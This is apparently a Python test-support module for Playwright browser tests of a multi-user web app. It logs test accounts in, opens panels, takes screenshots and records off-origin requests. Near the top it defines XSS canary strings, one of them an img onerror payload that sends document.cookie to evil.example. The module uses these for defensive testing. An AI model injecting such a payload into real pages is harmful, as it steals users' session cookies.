"""The picture's panels in a real Chromium: a server with accounts, logged-in pages, panels opened, screenshots.

Each page lives in its own browser context (its own cookie), so two pages are two users side by side.
Predicates handed to Playwright are functions: the page's CSP forbids ``eval``.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from pathlib import Path
from urllib.parse import urlparse

from playwright.sync_api import Browser, Dialog, Page, Request, expect

from tests.support.accounts import run_cli
from tests.support.browser import DEFAULT_TIMEOUT_MS
from tests.support.server import ServerProcess

RESULTS = Path("test-results/web")
# The XSS canaries: any of them running sets window.__xss or asks another origin for something.
XSS_IMG = '<img src=x onerror="window.__xss=1;fetch(\'http://evil.example/\'+document.cookie)">'
XSS_SCRIPT = "<script>window.__xss=2</script>"


def password_of(name: str) -> str:
    """The test password of account ``name``."""
    return f"{name} passphrase for the panels"


def add_accounts(data_dir: Path, accounts: Mapping[str, tuple[str, ...]]) -> None:
    """Create each account ``name: (role, *groups)`` (no groups: ``__ANON__`` both ways) before the server starts."""
    for name, (role, *groups) in accounts.items():
        args = [a for g in groups for a in ("--group", g)]
        run_cli(data_dir, "user", "add", name, *args, "--role", role, "--password-stdin",
                stdin=password_of(name) + "\n")


def serve_with_accounts(data_dir: Path, accounts: Mapping[str, tuple[str, ...]]) -> Iterator[ServerProcess]:
    """For a fixture: a real server whose accounts are ``accounts`` (see :func:`add_accounts`)."""
    add_accounts(data_dir, accounts)
    with ServerProcess(data_dir) as proc:
        yield proc


def base_url(ports: dict[str, int]) -> str:
    """The loopback HTTP address of the server with these ports."""
    return f"http://127.0.0.1:{ports['http']}"


@contextmanager
def logged_in(browser: Browser, ports: dict[str, int], user: str, *,
              outside: list[str] | None = None) -> Iterator[Page]:
    """A 1024x768 page of the picture, logged in as ``user`` through the page's own form, live.

    With ``outside``, every request to another origin and every dialog is recorded there from the first load.
    """
    context = browser.new_context(viewport={"width": 1024, "height": 768})
    context.set_default_timeout(DEFAULT_TIMEOUT_MS)
    try:
        page = context.new_page()
        if outside is not None:
            watch_outside_requests(page, outside)
        page.goto(base_url(ports) + "/")
        page.fill("#user", user)
        page.fill("#password", password_of(user))
        page.click("#login button[type=submit]")
        expect(page.locator("#status")).to_have_text("live")
        yield page
    finally:
        context.close()


def open_panel(page: Page, panel: str) -> None:
    """Open the panel ``panel`` (its <summary>), as a user would."""
    section = page.locator(f"#panel-{panel}")
    if section.get_attribute("open") is None:
        section.locator("summary").first.click()
    expect(section).to_have_attribute("open", "")


def shot(page: Page, name: str) -> None:
    """Save a screenshot as ``test-results/web/web-<name>.png``."""
    RESULTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(RESULTS / f"web-{name}.png"))


def watch_outside_requests(page: Page, outside: list[str]) -> None:
    """Record in ``outside`` every request the page makes to anything but the loopback server, and dialogs."""

    def seen(request: Request) -> None:
        if urlparse(request.url).hostname not in ("127.0.0.1", None) and not request.url.startswith(("data:", "blob:")):
            outside.append(request.url)

    def dialog(opened: Dialog) -> None:
        outside.append(f"dialog: {opened.message}")
        opened.dismiss()

    page.on("request", seen)
    page.on("dialog", dialog)
